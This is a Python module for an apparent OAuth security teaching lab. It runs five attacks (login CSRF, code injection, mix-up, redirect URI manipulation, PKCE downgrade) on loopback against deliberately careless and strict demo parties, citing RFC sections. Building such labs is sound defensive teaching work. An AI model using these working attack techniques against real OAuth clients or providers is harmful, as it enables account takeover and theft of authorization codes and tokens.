"""The attack lab of notebook 07: five attacks on 127.0.0.1, each run twice.

Each method of :class:`AttackLab` plays one attack against a careless party (the
:class:`~.careless_client.CarelessClient`, or a demo provider started lax on purpose) and then
against the careful one (the toolkit's :class:`~widgets.AuthorizationCodeFlow` at a strict demo
provider), and returns a :class:`Round` that says who was compromised, what happened, and
which check stopped the attack, with its RFC section.

* Login CSRF without state — RFC 6749 §10.12
* Code injection without PKCE — RFC 7636 §1, RFC 9700 §4.5
* Mix-up — RFC 9207, RFC 9700 §4.4
* Redirect URI manipulation at a lax provider — RFC 9700 §4.1
* PKCE downgrade — RFC 9700 §4.8

Everything runs on loopback; nobody is asked for input. Codes and tokens are shown masked.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

import requests

from ..core.authorization_code import AuthorizationCodeFlow
from ..core.config import AuthType, WebhookAuthConfig
from ..core.errors import WebhookAuthError
from ..core.redact import mask, scrub
from .careless_client import AttackerServer, CarelessClient, CarelessProvider

__all__ = ["AttackLab", "Round", "Outcome", "CLIENT_REDIRECT", "VICTIM", "ATTACKER"]

#: The redirect URI registered for the lab's client. Nothing listens there: in the lab the
#: browser's arrival is handed to the client directly.
CLIENT_REDIRECT = "http://localhost:8400/callback"
VICTIM = "demo"
ATTACKER = "mallory"


@dataclass(frozen=True)
class Outcome:
    """One run of an attack: against whom, whether it worked, and why (not)."""

    party: str
    compromised: bool
    what_happened: str
    stopped_by: str = ""


@dataclass(frozen=True)
class Round:
    """One attack, run against the careless party and the careful one."""

    attack: str
    reference: str
    careless: Outcome
    careful: Outcome

    def to_dataframe(self):
        """Two rows (careless, careful), pandas imported here."""
        import pandas as pd

        rows = [{"attack": self.attack, "party": o.party, "compromised": o.compromised,
                 "what happened": o.what_happened, "stopped by": o.stopped_by or "-", "reference": self.reference}
                for o in (self.careless, self.careful)]
        return pd.DataFrame(rows)


def _without(url: str, *names: str) -> str:
    parts = urlsplit(url)
    kept = [(k, v) for k, v in parse_qsl(parts.query, keep_blank_values=True) if k not in names]
    return urlunsplit(parts._replace(query=urlencode(kept)))


def _with_params(url: str, **params: str) -> str:
    parts = urlsplit(url)
    kept = [(k, v) for k, v in parse_qsl(parts.query, keep_blank_values=True) if k not in params]
    return urlunsplit(parts._replace(query=urlencode(kept + list(params.items()))))


def _code_of(url: str) -> str:
    return dict(parse_qsl(urlsplit(url).query)).get("code", "")


def _refusal(exc: WebhookAuthError) -> str:
    return f"{type(exc).__name__}: {scrub(exc.message).splitlines()[0]}"


class AttackLab:
    """The providers of the lab, started together; :meth:`stop` stops them all.

    ``honest`` is a strict demo provider (the default settings) where the lab's client is
    registered with :data:`CLIENT_REDIRECT`, and where the attacker has an account of their
    own (``mallory``). Lax providers for the rounds that need one are started on demand.
    """

    def __init__(self) -> None:
        from ..demo import DemoProvider

        self._demo = DemoProvider
        self.attacker_password = secrets.token_urlsafe(12)
        self.honest = self._provider()
        self._started: list = [self.honest]

    def _provider(self, **settings):
        settings.setdefault("redirect_uris", [CLIENT_REDIRECT])
        return self._demo(users={ATTACKER: self.attacker_password}, **settings).start()

    def lax_provider(self, **lax):
        """A demo provider started lax on purpose in the respects ``lax`` names (stopped by :meth:`stop`)."""
        registered = lax.pop("redirect_uris", None)
        provider = self._provider(lax=lax, **({"redirect_uris": registered} if registered else {}))
        self._started.append(provider)
        return provider

    def stop(self) -> None:
        for server in self._started:
            server.stop()
        self._started.clear()

    def __enter__(self) -> "AttackLab":
        return self

    def __exit__(self, *exc_info) -> None:
        self.stop()

    # -- the two clients -------------------------------------------------------------------
    @staticmethod
    def registration(provider) -> CarelessProvider:
        return CarelessProvider(provider.auth_url, provider.token_url, provider.client_id, provider.client_secret,
                                provider.issuer)

    def careless_client(self, provider=None, **checks) -> CarelessClient:
        provider = provider or self.honest
        return CarelessClient({"honest": self.registration(provider)}, CLIENT_REDIRECT, **checks)

    @staticmethod
    def toolkit_flow(provider, **changes) -> AuthorizationCodeFlow:
        settings = dict(provider.client_settings(), redirect_uri=CLIENT_REDIRECT, scope="alerts:write")
        settings.update(changes)
        return AuthorizationCodeFlow(WebhookAuthConfig(auth_type=AuthType.OAUTH_CODE, **settings))

    def _sign_in(self, provider, url: str, *, as_attacker: bool = False) -> str:
        """The person in the browser: sign in and approve; where the browser is sent."""
        if as_attacker:
            return provider.approve(url, user=ATTACKER, password=self.attacker_password)
        return provider.approve(url)

    # -- 1. login CSRF ---------------------------------------------------------------------
    def login_csrf(self) -> Round:
        """The attacker's own code is slipped into the victim's sign-in (RFC 6749 §10.12)."""
        careless = self.careless_client(use_state=False)
        forged = self._sign_in(self.honest, careless.login_link(), as_attacker=True)  # kept, not followed
        careless.login_link()  # the victim starts signing in...
        victim = careless.callback(forged)  # ...and the forged address arrives first
        bad = Outcome("careless client (no state)", victim.account == ATTACKER,
                      f"the victim's session holds the account {victim.account!r}: what the victim "
                      "stores there goes to the attacker")

        flow = self.toolkit_flow(self.honest)
        flow.begin()  # the victim's link
        attackers = self.toolkit_flow(self.honest)
        forged = self._sign_in(self.honest, attackers.begin().url, as_attacker=True)
        before = len(self.honest.token_requests)
        try:
            flow.complete(forged)
            good = Outcome("toolkit (state checked)", True, "the forged answer was accepted")
        except WebhookAuthError as exc:
            sent = len(self.honest.token_requests) - before
            good = Outcome("toolkit (state checked)", sent > 0,
                           f"refused before any token request ({sent} sent)", _refusal(exc))
        return Round("login CSRF without state", "RFC 6749 §10.12", bad, good)

    # -- 2. code injection -------------------------------------------------------------------
    def code_injection(self) -> Round:
        """A code stolen in transit is injected into the attacker's own session (RFC 9700 §4.5)."""
        careless = self.careless_client(use_state=True, use_pkce=False)
        stolen = _code_of(self._sign_in(self.honest, careless.login_link()))  # the victim's code, copied
        attacker_link = careless.login_link()  # the attacker's own session at the client
        state = dict(parse_qsl(urlsplit(attacker_link).query))["state"]
        session = careless.callback(f"{CLIENT_REDIRECT}?{urlencode({'code': stolen, 'state': state})}")
        bad = Outcome("careless client (no PKCE)", session.account == VICTIM,
                      f"the attacker's session holds the victim's account {session.account!r} "
                      f"(code {mask(stolen)})")

        victim = self.toolkit_flow(self.honest)
        stolen = _code_of(self._sign_in(self.honest, victim.begin().url))
        attackers = self.toolkit_flow(self.honest)
        state = attackers.begin().state
        try:
            token = attackers.complete(f"{CLIENT_REDIRECT}?{urlencode({'code': stolen, 'state': state})}")
            good = Outcome("toolkit (PKCE S256)", True, f"the attacker got a token ({token.masked})")
        except WebhookAuthError as exc:
            good = Outcome("toolkit (PKCE S256)", False,
                           "the token endpoint refused: the attacker's code_verifier does not match the "
                           "victim's code_challenge", _refusal(exc))
        return Round("code injection without PKCE", "RFC 7636 §1, RFC 9700 §4.5", bad, good)

    # -- 3. mix-up ---------------------------------------------------------------------------
    def mix_up(self) -> Round:
        """A malicious provider forwards the login to the honest one, then receives its code (RFC 9207)."""
        with AttackerServer(forward_to=self.honest.auth_url, forward_client_id=self.honest.client_id) as evil:
            evil_registration = CarelessProvider(evil.url + "/authorize", evil.url + "/token", "lab-at-attacker",
                                                 "secret-at-attacker", evil.url)
            careless = CarelessClient({"honest": self.registration(self.honest), "attacker": evil_registration},
                                      CLIENT_REDIRECT, use_state=True, use_pkce=True, check_iss=False)
            landed = self._sign_in(self.honest, self._follow(careless.login_link("attacker")))
            careless.callback(landed)
            leaked = [c for c in evil.codes() if c == _code_of(landed)]
            bad = Outcome("careless client (no iss check)", bool(leaked),
                          f"the honest provider's code {mask(_code_of(landed))} was sent to the attacker's "
                          "token endpoint" if leaked else "no code reached the attacker")

            flow = self.toolkit_flow(self.honest, auth_url=evil.url + "/authorize", token_url=evil.url + "/token",
                                     issuer=evil.url, client_id="lab-at-attacker", client_secret="secret-at-attacker")
            landed = self._sign_in(self.honest, self._follow(flow.begin().url))
            try:
                flow.complete(landed)
                good = Outcome("toolkit (iss checked)", True, "the code went to the attacker")
            except WebhookAuthError as exc:
                reached = _code_of(landed) in evil.codes()
                good = Outcome("toolkit (iss checked)", reached,
                               "refused before the token request: the answer names the honest issuer, "
                               "not the one the link was built for", _refusal(exc))
        return Round("mix-up", "RFC 9207 §2.4, RFC 9700 §4.4", bad, good)

    @staticmethod
    def _follow(url: str) -> str:
        """The browser opening ``url``: where a redirect sends it (loopback only)."""
        with requests.Session() as http:
            http.trust_env = False
            answer = http.get(url, allow_redirects=False, timeout=10)
        return answer.headers.get("Location", url) if answer.is_redirect else url

    # -- 4. redirect URI manipulation --------------------------------------------------------
    def redirect_manipulation(self, matching: str = "pattern") -> Round:
        """The attacker's link names their own page as redirect URI; a lax provider sends the code there.

        ``matching="pattern"``: the provider accepts any port and path on the registered host.
        ``"prefix"``: it accepts anything that starts with a registered URI (here a developer's
        ``http://localhost``, kept from testing).
        """
        registered = [CLIENT_REDIRECT] + (["http://localhost"] if matching == "prefix" else [])
        lax = self.lax_provider(redirect_uri=matching, redirect_uris=registered)
        strict = self._provider(redirect_uris=registered)
        self._started.append(strict)
        with AttackerServer(host="localhost") as evil:
            steal = evil.url + "/steal"
            outcomes = []
            for provider, party in ((lax, f"provider matching redirect URIs by {matching}"),
                                    (strict, "strict provider (exact matching)")):
                before = len(evil.codes())
                link = self.toolkit_flow(provider).begin().url  # the client's genuine link...
                crafted = _with_params(link, redirect_uri=steal)  # ...with the attacker's page put in
                try:
                    self._follow(self._sign_in(provider, crafted))
                    answer = "the browser was sent to the attacker's page"
                except RuntimeError as exc:
                    answer = f"the provider showed an error page ({scrub(exc)})"
                stolen = evil.codes()[before:]
                outcomes.append(Outcome(party, bool(stolen), answer + (
                    f"; the attacker's page received code {mask(stolen[0])}" if stolen else ""),
                    "" if stolen else "exact redirect URI matching at the provider"))
        bad, good = outcomes
        return Round(f"redirect URI manipulation ({matching} matching)", "RFC 9700 §4.1.3, RFC 6749 §3.1.2", bad,
                     good)

    # -- 5. PKCE downgrade ----------------------------------------------------------------------
    def pkce_downgrade(self) -> Round:
        """The attacker strips the challenge from their link; the victim signs in with it (RFC 9700 §4.8)."""
        lax = self.lax_provider(pkce_downgrade=True)
        outcomes = []
        for provider, party in ((lax, "provider accepting a verifier without a challenge"),
                                (self.honest, "strict provider (downgrade refused)")):
            attackers = self.toolkit_flow(provider)
            request = attackers.begin()  # the attacker's own session: state and verifier
            stripped = _without(request.url, "code_challenge", "code_challenge_method")
            landed = self._sign_in(provider, stripped)  # the victim signs in with the stripped link
            try:
                token = attackers.complete(landed)  # the code, stolen on its way, in the attacker's session
                outcomes.append(Outcome(party, True, f"the attacker's session got a token for the victim "
                                                     f"({token.masked})"))
            except WebhookAuthError as exc:
                outcomes.append(Outcome(party, False, "the token endpoint refused the verifier: the code was "
                                        "issued without a challenge", _refusal(exc)))
        return Round("PKCE downgrade", "RFC 9700 §4.8", outcomes[0], outcomes[1])

    def all_rounds(self) -> list[Round]:
        return [self.login_csrf(), self.code_injection(), self.mix_up(), self.redirect_manipulation("pattern"),
                self.redirect_manipulation("prefix"), self.pkce_downgrade()]
